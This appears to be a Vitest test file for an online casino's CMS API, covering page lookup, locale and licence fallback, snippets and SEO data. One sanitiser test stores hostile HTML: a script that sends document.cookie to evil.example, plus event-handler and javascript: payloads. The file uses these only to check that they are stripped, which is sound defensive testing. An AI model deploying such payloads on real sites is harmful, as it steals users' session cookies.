// /api/cms/*: page list, page by slug with the licence suffix rule and locale fallback, unknown
// page message (spec 2 §8), sanitised HTML, footer snippets and SEO data.

import * as api from '@croupier/contract/api.generated'
import { StaticPageSchema } from '@croupier/contract/cms/get-page'
import { SeoPageSchema } from '@croupier/contract/cms/get-seo-page'
import { SnippetSchema } from '@croupier/contract/cms/get-snippet'
import { StaticPagesSchema } from '@croupier/contract/cms/list-pages'
import { CURRENT_YEAR_TOKEN } from '@croupier/rules/static-pages'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { findPageBySlug, savePageTranslation } from '../src/modules/cms/cms.repository.ts'
import { inject, nameOf } from './helpers/call.ts'
import { createTestApp, type TestApp } from './helpers/test-app.ts'

let t: TestApp
beforeAll(async () => {
  t = await createTestApp()
})
afterAll(() => t.close())

async function page(slug: string, query: Record<string, string>) {
  const response = await inject(t.app, api.getPage, { params: { slug }, rawQuery: query })
  expect(response.statusCode, response.body).toBe(200)
  return StaticPageSchema.parse(response.json())
}

describe(nameOf(api.listPages), () => {
  it('lists every page with path, title, categories, hidden, and no content', async () => {
    const response = await inject(t.app, api.listPages, { query: { locale: 'de' } })
    expect(response.statusCode).toBe(200)
    expect(response.headers['cache-control']).toBe('public, max-age=60')
    const { pages } = StaticPagesSchema.parse(response.json())
    const paths = pages.map((p) => p.path)
    for (const slug of [
      'privacy-policy',
      'cookie-policy',
      'terms-and-conditions',
      'general-rules',
      'responsible-gaming',
      'benefits-of-crypto',
      'awards',
      'about-us',
      'terms-and-conditions-ee',
      'responsible-gaming-au',
    ]) {
      expect(paths, slug).toContain(slug)
    }
    expect(pages.find((p) => p.path === 'privacy-policy')?.title).toBe('Datenschutzerklärung')
    expect(pages.find((p) => p.path === 'terms-and-conditions-ee')?.hidden).toBe(true)
    expect(pages.find((p) => p.path === 'general-rules')?.categories).toEqual(
      expect.arrayContaining(['top-menu', 'reg-only']),
    )
    expect(JSON.stringify(response.json())).not.toContain('<h2>')
  })

  it('en-* locales get the English titles', async () => {
    const { pages } = StaticPagesSchema.parse(
      (await inject(t.app, api.listPages, { query: { locale: 'en-CA' } })).json(),
    )
    expect(pages.find((p) => p.path === 'privacy-policy')?.title).toBe('Privacy policy')
  })
})

describe(nameOf(api.getPage), () => {
  it('serves the page in the locale with meta and a {current_year} left for the client', async () => {
    const terms = await page('terms-and-conditions', { locale: 'de' })
    expect(terms).toMatchObject({
      path: 'terms-and-conditions',
      resolvedPath: 'terms-and-conditions',
      locale: 'de',
      title: 'Allgemeine Geschäftsbedingungen',
      pageType: 'static',
    })
    expect(terms.meta.metaTitle).toBe('Allgemeine Geschäftsbedingungen | Croupier')
    expect(terms.content).toContain(CURRENT_YEAR_TOKEN)
    expect(terms.content).toContain('<h2>')
  })

  it('serves url, routeName, blocks and meta with the JSON-LD of the page (spec 2 §3)', async () => {
    const about = await page('about-us', { locale: 'de' })
    expect(about).toMatchObject({ url: '/about-us', routeName: 'staticPage', pageType: 'static' })
    expect(about.blocks).toEqual({
      'content-main': about.content,
      json: expect.any(String),
      description: 'Wer hinter Croupier steht, wofür wir stehen und wie du uns erreichst.',
      keywords: 'über croupier, online casino, lizenz',
      title: 'Über uns | Croupier',
    })
    expect(about.meta).toEqual({
      metaTitle: 'Über uns | Croupier',
      metaDescription: about.blocks.description,
      metaKeywords: about.blocks.keywords,
      json: {
        '@context': 'https://schema.org',
        '@type': 'AboutPage',
        name: 'Über uns',
        description: about.blocks.description,
        inLanguage: 'de',
        publisher: { '@type': 'Organization', name: 'Croupier' },
      },
      mainContent: about.content,
    })
    expect(JSON.parse(about.blocks.json)).toEqual(about.meta.json)
    expect((await page('terms-and-conditions', { locale: 'fr-CA' })).meta.json).toMatchObject({
      '@type': 'WebPage',
      name: 'Conditions générales',
      inLanguage: 'fr-CA',
    })
  })

  it('an operator’s malformed json block drops the structured data, not the page', async () => {
    const cookies = await findPageBySlug(t.db, 'cookie-policy')
    await savePageTranslation(t.db, {
      pageId: cookies!.id,
      locale: 'no',
      title: 'Informasjonskapsler',
      content: '<p>Tekst</p>',
      metaTitle: '',
      jsonLd: '{"@type": "WebPage",',
    })
    const served = await page('cookie-policy', { locale: 'no' })
    expect(served.meta).toMatchObject({
      json: null,
      metaTitle: 'Informasjonskapsler',
      mainContent: '<p>Tekst</p>',
    })
    expect(served.blocks.json).toBe('{"@type": "WebPage",')
  })

  it('English variants have rows of their own; en-KW falls back along the chain (en-AU → en)', async () => {
    const privacy = await page('privacy-policy', { locale: 'en-NZ' })
    expect(privacy.locale).toBe('en-NZ')
    expect(privacy.title).toBe('Privacy policy')
    expect((await page('privacy-policy', { locale: 'en-CA' })).locale).toBe('en-CA')
    const kw = await page('privacy-policy', { locale: 'en-KW' })
    expect(kw.locale).toBe('en-AU')
    expect(kw.meta.json).toMatchObject({ inLanguage: 'en-AU' })
  })

  it('picks the -ee variant under the EE licence and -au for Australia', async () => {
    const ee = await page('terms-and-conditions', { licence: 'EE' })
    expect(ee.resolvedPath).toBe('terms-and-conditions-ee')
    expect(ee.content).toContain('21 years')
    expect((await page('terms-and-conditions', { licence: 'CW' })).resolvedPath).toBe('terms-and-conditions')
    // No -ee variant of this page: the plain page is served.
    expect((await page('responsible-gaming', { licence: 'EE' })).resolvedPath).toBe('responsible-gaming')
    expect((await page('responsible-gaming', { country: 'AU' })).resolvedPath).toBe('responsible-gaming-au')
    expect((await page('responsible-gaming', { locale: 'en-AU' })).resolvedPath).toBe('responsible-gaming-au')
    expect((await page('responsible-gaming', { country: 'AU' })).content).toContain('1800 858 858')
  })

  it('an unknown page is a 404 with the spec message', async () => {
    const response = await inject(t.app, api.getPage, { params: { slug: 'no-such-page' } })
    expect(response.statusCode).toBe(404)
    expect(response.json()).toEqual({ error: 'NOT_FOUND', message: 'no-such-page page is not StaticPages' })
  })

  it('sanitises hostile HTML: scripts, handlers, javascript: URLs and iframes are gone', async () => {
    const about = await findPageBySlug(t.db, 'about-us')
    await savePageTranslation(t.db, {
      pageId: about!.id,
      locale: 'it',
      title: 'Chi siamo',
      content: [
        '<h2 onclick="steal()">Chi siamo</h2>',
        '<script>document.location="https://evil.example/?c="+document.cookie</script>',
        '<img src="https://cdn.example/team.jpg" width="640" height="360" alt="Team" onerror="alert(1)">',
        '<a href="javascript:alert(1)">click</a>',
        '<a href="https://example.org/help" target="_blank">help</a>',
        '<iframe src="https://evil.example"></iframe>',
        '<p style="position:fixed">{current_year}</p>',
        '<table><tr><td>ok</td></tr></table>',
      ].join(''),
    })
    const content = (await page('about-us', { locale: 'it' })).content
    expect(content).not.toMatch(/<script|onclick|onerror|javascript:|<iframe|style=/i)
    expect(content).toContain(
      '<img src="https://cdn.example/team.jpg" width="640" height="360" alt="Team" />',
    )
    expect(content).toContain(
      '<a href="https://example.org/help" target="_blank" rel="noopener noreferrer">help</a>',
    )
    expect(content).toContain('<a rel="noopener">click</a>')
    expect(content).toContain('<p>{current_year}</p>')
    expect(content).toContain('<td>ok</td>')
  })
})

describe(nameOf(api.getSnippet), () => {
  it('serves the footer snippet per locale, with fallback for en-KW', async () => {
    for (const locale of ['en', 'de', 'en-AU', 'en-CA', 'fr-CA', 'en-NZ', 'no', 'it']) {
      const response = await inject(t.app, api.getSnippet, {
        params: { key: 'footer' },
        rawQuery: { locale },
      })
      expect(response.statusCode, locale).toBe(200)
      const snippet = SnippetSchema.parse(response.json())
      expect(snippet.locale).toBe(locale)
      expect(snippet.content).toContain('8048/JAZ2024-112')
    }
    const kw = SnippetSchema.parse(
      (await inject(t.app, api.getSnippet, { params: { key: 'footer' }, query: { locale: 'en-KW' } })).json(),
    )
    expect(kw.locale).toBe('en-AU')
  })

  it('unknown keys are 404', async () => {
    expect((await inject(t.app, api.getSnippet, { params: { key: 'header' } })).statusCode).toBe(404)
  })
})

describe(nameOf(api.getSeoPage), () => {
  it('serves SEO data by path, /home for main, with locale fallback', async () => {
    const home = SeoPageSchema.parse(
      (await inject(t.app, api.getSeoPage, { query: { path: '/home', locale: 'de' } })).json(),
    )
    expect(home.title).toContain('Croupier Casino')
    expect(home.locale).toBe('de')
    const pokies = SeoPageSchema.parse(
      (await inject(t.app, api.getSeoPage, { query: { path: '/pokies/all', locale: 'en-NZ' } })).json(),
    )
    expect(pokies.h1).toBe('All pokies')
    const live = SeoPageSchema.parse(
      (await inject(t.app, api.getSeoPage, { query: { path: '/live/all/', locale: 'fr-CA' } })).json(),
    )
    expect(live.h1).toBe('Casino en direct')
  })

  it('unknown paths are 404 and bad paths 422', async () => {
    expect((await inject(t.app, api.getSeoPage, { query: { path: '/nowhere' } })).statusCode).toBe(404)
    expect((await inject(t.app, api.getSeoPage, { query: { path: '<x>' } })).statusCode).toBe(422)
  })
})
